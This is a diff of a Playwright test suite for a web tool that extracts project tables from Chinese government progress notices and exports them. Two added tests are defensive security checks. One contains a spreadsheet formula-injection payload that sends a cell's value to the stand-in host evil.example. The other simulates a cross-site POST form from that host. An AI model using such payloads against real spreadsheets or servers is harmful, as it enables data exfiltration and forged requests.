@@ -84,7 +84,7 @@ def page(browser, server):
 def extract_text(pg, text: str) -> None:
     pg.fill("#paste", text)
     pg.click("#extract")
-    pg.wait_for_selector("#status.done, #status.error")
+    pg.wait_for_selector("#status.done, #status.error, #status.warn")
 
 
 def test_paste_seed_004_shows_table_and_rate_mismatch(page):
@@ -93,13 +93,13 @@ def test_paste_seed_004_shows_table_and_rate_mismatch(page):
     assert page.text_content("#doc-title").startswith("关于2021年1-5月")
     assert "湘西自治州" in page.text_content("#meta") and "进展通报" in page.text_content("#meta")
     headers = page.locator("#projects thead th").all_text_contents()
-    assert headers == ["名称", "指标", "牵头领导", "牵头单位", "完成时限", "完成数", "完成率", "状态"]
+    assert headers == ["名称", "指标", "牵头", "完成时限", "完成数", "完成率", "状态"]
     assert page.locator("#projects tr.project").count() >= 20
 
     row = page.locator("#projects tr.project", has_text="实施困难残疾人家庭无障碍改造680户")
     cells = row.locator("td").all_text_contents()
-    assert "680户" in cells[1] and "州残联" in cells[3] and "22户" in cells[5] and "3.3%" in cells[6]
-    assert "滞后" in cells[7]
+    assert "680户" in cells[1] and "州残联" in cells[2] and "22户" in cells[4] and "3.3%" in cells[5]
+    assert "滞后" in cells[6]
     assert "worst-error" in row.get_attribute("class")
     # the flag sits right under its row, in plain Chinese with both numbers
     beside = page.locator("#projects tr.project:has-text('实施困难残疾人家庭无障碍改造680户') + tr.flag-row")
@@ -186,8 +186,20 @@ def test_download_excel_and_csv(page, tmp_path):
     info.value.save_as(path)
     assert info.value.suggested_filename.endswith(".xlsx")
     wb = load_workbook(io.BytesIO(path.read_bytes()))
-    assert wb.sheetnames == ["项目", "问题"]
-    assert "RATE_MISMATCH" in [r[1] for r in wb["问题"].iter_rows(min_row=2, values_only=True)]
+    assert wb.sheetnames == ["项目", "问题", "文件"]
+    flags = list(wb["问题"].iter_rows(min_row=2, values_only=True))
+    assert ("完成率对不上", "错误") in [r[1:3] for r in flags] and "RATE_MISMATCH" in [r[-1] for r in flags]
+    ws = wb["项目"]
+    assert ws.freeze_panes == "A2" and ws.auto_filter.ref and ws.column_dimensions["C"].width >= 30
+    header = [c.value for c in ws[1]]
+    rows = [dict(zip(header, r)) for r in ws.iter_rows(min_row=2, values_only=True)]
+    power = [r for r in rows if "配电网" in r["项目"] and r["完成数"]]
+    assert power and power[0]["完成数"] == "6498万元" and power[0]["完成金额(元)"] == 64980000
+    estates = [r for r in rows if r["项目"] == "开工建设85个城镇老旧小区"]
+    counted = [r for r in estates if r["目标"] == "85个"]
+    assert counted and all("万元" not in (r["完成数"] or "") for r in counted)     # investment is not completion
+    assert any(r["指标"] == "完成投资" and r["完成数"] == "473.975万元" for r in estates)
+    assert {r["状态"] for r in rows} - {None, ""} <= {"已完成", "有序推进", "进度滞后", "已启动", "已取消"}
 
     with page.expect_download() as info:
         page.click("#dl-csv")
@@ -203,4 +215,124 @@ def test_copy_markdown(page, browser):
     page.wait_for_selector("#status.done")
     assert "Markdown 已复制" in page.text_content("#status")
     copied = page.evaluate("navigator.clipboard.readText()")
-    assert copied.startswith("### ") and "RATE_MISMATCH" in copied
+    assert copied.startswith("### ") and "完成率对不上" in copied and "RATE_MISMATCH" in copied
+
+
+# ---- issue 16: true statuses, safe cells, own origin, no silent all-clear, layout -------------------------------
+
+def test_sample_button_shows_true_statuses(page):
+    page.click("#sample")
+    page.wait_for_selector("#status.done")
+    assert "卫生室" in page.input_value("#paste")
+
+    def status(name: str) -> str:
+        return page.locator("#projects tr.project", has_text=name).locator("td.status").text_content()
+
+    assert status("无障碍改造450户") == "进度滞后"
+    assert status("村卫生室") == "有序推进"            # 35 of 80 built, 其余正在建设中: not done
+    assert status("农村公路安防设施") == "已完成"        # the whole target reached
+    assert "已完成" not in status("城镇新增就业")
+    assert page.locator(".howto").is_visible() and "怎么看" in page.text_content(".howto")
+    assert page.problems == []
+
+
+def test_partial_project_after_done_word_is_not_done(page):
+    extract_text(page, "关于2022年1-6月全市重点民生实事项目进展情况的通报\n"
+                       "1、由市残联牵头组织实施的“实施无障碍改造640户”项目：全市已完成改造21户，完成年任务3.28%。\n")
+    assert page.locator("#projects tr.project td.status").text_content() not in ("已完成", "")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
+
+
+def test_formula_in_a_name_stays_text_in_the_downloaded_excel(page, tmp_path):
+    from openpyxl import load_workbook
+
+    extract_text(page, "关于2022年1-6月全市重点民生实事项目进展情况的通报\n"
+                       f"1、由市残联牵头组织实施的“{FORMULA}实施无障碍改造640户”项目：全市已完成改造21户，完成年任务3.3%。\n"
+                       f"{FORMULA}\n")
+    with page.expect_download() as info:
+        page.click("#dl-xlsx")
+    info.value.save_as(tmp_path / "x.xlsx")
+    wb = load_workbook(tmp_path / "x.xlsx")
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.startswith("=")]
+    assert cells, "the payload should reach the workbook"
+    assert all(c.data_type == "s" for c in cells)
+    with page.expect_download() as info:
+        page.click("#dl-csv")
+    info.value.save_as(tmp_path / "x.csv")
+    assert "\n=" not in (tmp_path / "x.csv").read_text(encoding="utf-8-sig").replace(",=", "\n=")
+
+
+def test_markdown_download(page, tmp_path):
+    extract_text(page, SEED_004.read_text(encoding="utf-8"))
+    with page.expect_download() as info:
+        page.click("#dl-md")
+    assert info.value.suggested_filename.endswith(".md")
+    info.value.save_as(tmp_path / "x.md")
+    text = (tmp_path / "x.md").read_text(encoding="utf-8")
+    assert text.startswith("### ") and "| 状态 |" in text and "完成率对不上" in text
+
+
+def test_a_post_from_another_origin_is_refused(page, server):
+    """A page elsewhere (a made-up site served by Playwright) submits a text/plain form to the API, as a CSRF
+    would: the server refuses it with 403, and no extraction is run."""
+    page.route("http://evil.example/**", lambda route: route.fulfill(
+        status=200, content_type="text/html", body="<!doctype html><title>elsewhere</title><p>elsewhere</p>"))
+    page.goto("http://evil.example/")
+    with page.expect_response(lambda r: r.url.endswith("/api/extract")) as info:
+        page.evaluate("""(url) => {
+            const form = document.createElement("form");
+            form.method = "POST"; form.action = url + "/api/extract"; form.enctype = "text/plain";
+            const input = document.createElement("input");
+            input.name = '{"text": "关于民生实事的通报", "x": "'; input.value = '"}';
+            form.append(input); document.body.append(form); form.submit();
+        }""", server)
+    assert info.value.status == 403
+    assert "拒绝跨站请求" in info.value.text()
+
+
+def test_random_text_says_nothing_was_recognised(page):
+    import random
+
+    rng = random.Random(3)
+    text = "\n".join("".join(rng.choice("的一是了我不在有这他中大来上国和到说们为道也abcxyz45789") for _ in range(50))
+                     for _ in range(300))
+    extract_text(page, text)
+    assert "未识别出项目" in page.text_content("#status")
+    assert page.locator("#unread").is_visible()
+    assert "未识别出项目" in page.text_content("#unread") and "行含数字" in page.text_content("#unread")
+    assert not page.locator("#no-flags").is_visible()
+
+
+@pytest.mark.parametrize("width, height", [(1366, 768), (390, 844)], ids=["office-1366", "phone-390"])
+def test_no_horizontal_overflow_and_status_in_view(browser, server, width, height, tmp_path):
+    context = browser.new_context(viewport={"width": width, "height": height}, accept_downloads=True)
+    pg = context.new_page()
+    pg.goto(server + "/")
+    pg.wait_for_selector("body[data-ready='1']")
+    extract_text(pg, SEED_004.read_text(encoding="utf-8"))
+    pg.screenshot(path=str(tmp_path / f"page-{width}.png"), full_page=True)
+    assert pg.evaluate("document.scrollingElement.scrollWidth") <= width
+    status = pg.locator("#projects tr.project", has_text="无障碍改造680户").locator("td.status")
+    box = status.bounding_box()
+    assert box and box["x"] >= 0 and box["x"] + box["width"] <= width, box
+    wrap = pg.evaluate("(() => { const t = document.querySelector('.table-wrap'); return t.scrollWidth - t.clientWidth; })()")
+    assert wrap <= 1                                     # the table fits: no column hidden behind a scroll bar
+    # a tap on a flag keeps the page where it is and shows its source right there (beside, or under it)
+    flag = pg.locator("#flags li.flag", has_text="完成率对不上")
+    flag.scroll_into_view_if_needed()
+    before = pg.evaluate("window.scrollY")
+    flag.dispatch_event("click")
+    pg.wait_for_timeout(600)
+    assert abs(pg.evaluate("window.scrollY") - before) < 5
+    if width < 1100:
+        excerpt = flag.locator(".excerpt")
+        assert excerpt.is_visible() and "完成年任务3.3%" in excerpt.text_content()
+    else:
+        hl = pg.locator("#source .ln.hl")
+        assert hl.is_visible() and "完成年任务3.3%" in hl.text_content()
+        hb = hl.bounding_box()
+        assert 0 <= hb["y"] and hb["y"] + hb["height"] <= height
+    context.close()
